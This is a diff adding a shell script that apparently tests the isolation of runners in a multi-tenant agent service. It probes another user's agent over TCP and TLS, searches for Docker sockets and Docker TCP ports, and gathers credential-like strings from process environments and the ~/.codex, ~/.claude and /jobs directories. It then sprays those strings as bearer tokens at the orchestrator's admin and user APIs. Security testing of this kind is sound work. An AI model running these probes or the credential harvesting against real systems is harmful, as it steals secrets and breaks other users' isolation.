@@ -1,0 +1,91 @@
+# Network attacks: bob's runner agent with and without TLS, this runner's own agent, the Docker API, and the
+# orchestrator's APIs with every credential-looking value this runner can find.
+res() { printf 'RESULT|%s|%s|%s\n' "$1" "$2" "$(printf '%s' "$3" | tr '\n|' ' /' | cut -c1-500)"; }
+tcp() { timeout 4 bash -c "exec 3<>/dev/tcp/$1/$2" 2>&1 | head -1 | sed 's/.*: //'; echo "exit=${PIPESTATUS[0]}"; }
+env1() { tr '\0' '\n' < /proc/1/environ | sed -n "s/^$1=//p"; }
+
+# 1. bob's agent, plain TCP (and HTTP) to its real address
+t=$(tcp "$BOB_IP" 8443 | tr '\n' ' ')
+v=blocked; case "$t" in *exit=0*) v=OPEN ;; esac
+res bob-tcp $v "bash /dev/tcp to bob's agent $BOB_IP:8443: $t"
+
+# 2. bob's agent over TLS: without a client certificate, and with this runner's own certificate and key
+dir=$(mktemp -d)
+env1 CCX_TLS_CERT > "$dir/own.crt"; env1 CCX_TLS_KEY > "$dir/own.key"
+tls() { timeout 6 openssl s_client -brief -connect "$1" "${@:2}" </dev/null 2>&1 | grep -m1 -iE 'error|alert|refused|unreachable|timed out|CONNECTION ESTABLISHED|verify' | cut -c1-100; }
+a=$(tls "$BOB_IP:8443"); b=$(tls "$BOB_IP:8443" -cert "$dir/own.crt" -key "$dir/own.key")
+[ -z "$a" ] && a="no TLS session (timed out)"; [ -z "$b" ] && b="no TLS session (timed out)"
+n=$(timeout 6 node -e '
+  const tls = require("tls"), fs = require("fs");
+  const s = tls.connect({host: process.argv[1], port: 8443, rejectUnauthorized: false,
+    cert: fs.readFileSync(process.argv[2]), key: fs.readFileSync(process.argv[3])}, () => s.write("GET /health HTTP/1.0\r\n\r\n"));
+  s.on("data", d => { console.log("ANSWERED " + d.toString().split("\r\n")[0]); process.exit(0); });
+  s.on("error", e => { console.log("error " + e.code); process.exit(0); });' "$BOB_IP" "$dir/own.crt" "$dir/own.key" 2>&1 | head -1)
+[ -z "$n" ] && n="no answer (timed out)"
+v=blocked; case "$a $b $n" in *ANSWERED*) v=OPEN ;; esac
+res bob-tls $v "openssl without client cert: $a; with own runner cert: $b; node https with own cert: $n"
+
+# 3. this runner's own agent (reachable on 127.0.0.1) still wants the orchestrator's client certificate
+c=$(tls 127.0.0.1:8443 -cert "$dir/own.crt" -key "$dir/own.key")
+h=$(timeout 4 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8443; printf "GET /health HTTP/1.0\r\n\r\n" >&3; head -c 60 <&3' 2>&1 | tr -d '\r\0' | head -1)
+o=$(timeout 6 node -e '
+  const tls = require("tls"), fs = require("fs");
+  const s = tls.connect({host: "127.0.0.1", port: 8443, rejectUnauthorized: false,
+    cert: fs.readFileSync(process.argv[1]), key: fs.readFileSync(process.argv[2])}, () => s.write("GET /health HTTP/1.0\r\n\r\n"));
+  s.on("data", d => { console.log("ANSWERED " + d.toString().split("\r\n")[0]); process.exit(0); });
+  s.on("error", e => { console.log("error " + e.code); process.exit(0); });' "$dir/own.crt" "$dir/own.key" 2>&1 | head -1)
+rm -rf "$dir"
+v=blocked; case "$o $h" in *ANSWERED*|*"HTTP/1."*) v=OPEN ;; esac
+res own-agent $v "own agent with own runner cert: openssl: $c; node: $o; plain HTTP: [${h:-no answer}]"
+
+# 4. the Docker API over Unix sockets
+socks=$(find / -xdev -type s 2>/dev/null | head -5 | tr '\n' ' ')
+known=""
+for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /var/run/docker/docker.sock /run/user/0/docker.sock; do
+  [ -e "$s" ] && known="$known $s"
+done
+p=$(python3 -c 'import socket,sys
+for p in sys.argv[1:]:
+    try:
+        s=socket.socket(socket.AF_UNIX); s.connect(p); s.sendall(b"GET /version HTTP/1.0\r\n\r\n"); print("ANSWERED", s.recv(40))
+    except OSError as e: print(p, e.strerror)' /var/run/docker.sock /run/docker.sock 2>&1 | tr '\n' ' ')
+v=blocked; [ -n "$known" ] && v=OPEN; case "$p" in *ANSWERED*) v=OPEN ;; esac
+res docker-socket $v "sockets on the filesystem: [$socks]; known Docker/containerd paths present: [$known]; connect: $p"
+
+# 5. the Docker API over TCP on the gateway, host.docker.internal and the default bridge
+out=""; v=blocked
+for h in "$GATEWAY" host.docker.internal 172.17.0.1; do
+  for port in 2375 2376; do
+    r=$(tcp "$h" "$port" | tr '\n' ' '); out="$out $h:$port $r;"
+    case "$r" in *exit=0*) v=OPEN ;; esac
+  done
+done
+res docker-tcp $v "$out"
+
+# 6. the orchestrator's user and admin APIs with every credential-looking value found in this runner
+cand=$(mktemp)
+{ cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sed 's/^[^=]*=//'
+  grep -rahoE '[A-Za-z0-9._~+/=-]{12,}' "$HOME/.codex" "$HOME/.claude" /jobs 2>/dev/null | head -2000
+} | awk 'length($0) >= 8 && length($0) <= 4096' | sort -u > "$cand"
+r=$(timeout 25 node -e '
+  const http = require("http"), fs = require("fs");
+  const tokens = fs.readFileSync(process.argv[1], "utf8").split("\n").filter(t => t && !/[\r\n]/.test(t)).slice(0, 400);
+  const base = {host: process.argv[2], port: +process.argv[3]};
+  const get = (path, headers) => new Promise(ok => { const q = http.get({...base, path, headers, timeout: 3000},
+    r => { r.resume(); ok(r.statusCode); }); q.on("error", e => ok(e.code)); q.on("timeout", () => { q.destroy(); ok("timeout"); }); });
+  (async () => {
+    const health = await get("/health", {});
+    const counts = {};
+    for (const t of tokens) {
+      for (const [path, h] of [["/admin/slots", {}], ["/v1/models", {"X-CCX-User": "bob"}], ["/v1/jobs", {"X-CCX-User": "bob"}]]) {
+        let s; try { s = await get(path, {...h, Authorization: "Bearer " + t}); } catch (e) { s = "invalid-header"; }
+        counts[s] = (counts[s] || 0) + 1;
+      }
+    }
+    console.log("health=" + health + " candidates=" + tokens.length + " statuses=" + JSON.stringify(counts));
+  })();' "$cand" "$ORCH_HOST" "$ORCH_PORT" 2>&1 | tail -1)
+rm -f "$cand"
+v=blocked
+case "$r" in *health=200*) ;; *) v=OPEN ;; esac
+printf '%s' "$r" | grep -oE '"[^"]+":[0-9]+' | grep -v '^"401"' | grep -vq '^"invalid-header"' && v=OPEN
+res orchestrator-api $v "orchestrator at $ORCH_HOST:$ORCH_PORT: $r"
